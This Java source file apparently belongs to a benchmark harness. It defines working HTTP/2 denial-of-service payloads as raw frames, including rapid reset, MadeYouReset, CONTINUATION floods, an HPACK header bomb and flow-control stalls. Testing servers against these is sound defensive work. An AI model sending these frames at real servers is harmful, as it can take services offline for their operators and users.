package dev.loomgate.bench.harness;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.function.IntFunction;

/// What clients of HTTP/2 do to a server, as frames (RFC 9113 section 4.1).
///
/// ```
/// length (24)  type (8)  flags (8)  stream (32)  payload
/// ```
public enum Attack {
    /// Requests that are taken back at once (CVE-2023-44487).
    RAPID_RESET("rapid reset", new byte[0], new byte[0], i -> join(post(i), reset(i))),
    /// Requests whose streams the server has to reset (CVE-2025-8671).
    MADE_YOU_RESET(
            "MadeYouReset",
            new byte[0],
            new byte[0],
            i -> join(post(i), frame(Type.WINDOW_UPDATE, 0, stream(i), number(0)))),
    /// A head that goes on in frames with nothing in them (CVE-2024-27316 and others).
    CONTINUATION("CONTINUATION", new byte[0], head(), _ -> frame(Type.CONTINUATION, 0, 1, new byte[0])),
    /// A head that has no end.
    HEADER_LIST("header list", new byte[0], head(), _ -> frame(Type.CONTINUATION, 0, 1, field(10_000))),
    /// A head that is small until it is unpacked.
    HEADER_BOMB(
            "header list by references",
            new byte[0],
            new byte[0],
            i -> frame(Type.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, stream(i), bomb())),
    SETTINGS("SETTINGS", new byte[0], new byte[0], i -> frame(Type.SETTINGS, 0, 0, window(i % 65_536))),
    PING("PING", new byte[0], new byte[0], _ -> frame(Type.PING, 0, 0, new byte[8])),
    EMPTY_DATA("empty DATA", new byte[0], post(0), _ -> frame(Type.DATA, 0, 1, new byte[0])),
    /// A large response, taken byte by byte.
    TINY_WINDOWS("windows of a byte", window(1), get("/stream"), _ -> frame(Type.WINDOW_UPDATE, 0, 1, number(1))),
    /// Large responses that are never taken, on streams that are opened and left.
    NO_WINDOWS("windows of nothing", window(0), new byte[0], i -> getOn(stream(i), "/stream"));

    private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

    private final String shown;

    @SuppressWarnings("ImmutableEnumChecker") // written once, and handed out as copies
    private final byte[] opening;

    @SuppressWarnings("ImmutableEnumChecker") // functions without a state
    private final IntFunction<byte[]> frames;

    Attack(String shown, byte[] settings, byte[] first, IntFunction<byte[]> frames) {
        this.shown = shown;
        this.opening = join(PREFACE.getBytes(StandardCharsets.US_ASCII), frame(Type.SETTINGS, 0, 0, settings), first);
        this.frames = frames;
    }

    private static final class Type {
        static final int DATA = 0;
        static final int HEADERS = 1;
        static final int RST_STREAM = 3;
        static final int SETTINGS = 4;
        static final int PING = 6;
        static final int WINDOW_UPDATE = 8;
        static final int CONTINUATION = 9;
    }

    private static final class Flag {
        static final int END_STREAM = 1;
        static final int END_HEADERS = 4;
    }

    public String shown() {
        return shown;
    }

    /// What begins a connection.
    byte[] opening() {
        return opening.clone();
    }

    /// What is sent then, again and again.
    ///
    /// @param i from 0
    byte[] next(int i) {
        return frames.apply(i);
    }

    private static int stream(int i) {
        return 2 * i + 1;
    }

    private static byte[] head() {
        return frame(Type.HEADERS, 0, 1, fields(0x82, "/"));
    }

    private static byte[] get(String path) {
        return getOn(1, path);
    }

    private static byte[] getOn(int stream, String path) {
        return frame(Type.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, stream, fields(0x82, path));
    }

    private static byte[] post(int i) {
        return frame(Type.HEADERS, Flag.END_HEADERS, stream(i), fields(0x83, "/"));
    }

    private static byte[] reset(int i) {
        return frame(Type.RST_STREAM, 0, stream(i), number(8));
    }

    /// RFC 7541: the method by its index, `:scheme http`, `:authority a`, and the path as a literal.
    private static byte[] fields(int method, String path) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(new byte[] {(byte) method, (byte) 0x86, 0x01, 1, 'a', 0x04, (byte) path.length()});
        block.writeBytes(path.getBytes(StandardCharsets.US_ASCII));
        return block.toByteArray();
    }

    /// A field `x` of so many bytes, of those that two bytes can count after the first.
    private static byte[] field(int length) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        int rest = length - 127;
        block.writeBytes(new byte[] {0, 1, 'x', 127, (byte) ((rest & 127) | 128), (byte) (rest >>> 7)});
        block.writeBytes(new byte[length]);
        byte[] all = block.toByteArray();
        Arrays.fill(all, 6, all.length, (byte) 'y');
        return all;
    }

    private static byte[] bomb() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(fields(0x82, "/"));
        byte[] field = field(3000);
        field[0] = 0x40; // into the table
        block.writeBytes(field);
        for (int i = 0; i < 8000; i++) {
            block.write(0x80 | 62);
        }
        return block.toByteArray();
    }

    private static byte[] window(int size) {
        return ByteBuffer.allocate(6).putShort((short) 4).putInt(size).array();
    }

    private static byte[] number(int value) {
        return ByteBuffer.allocate(4).putInt(value).array();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >>> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    private static byte[] join(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }
}
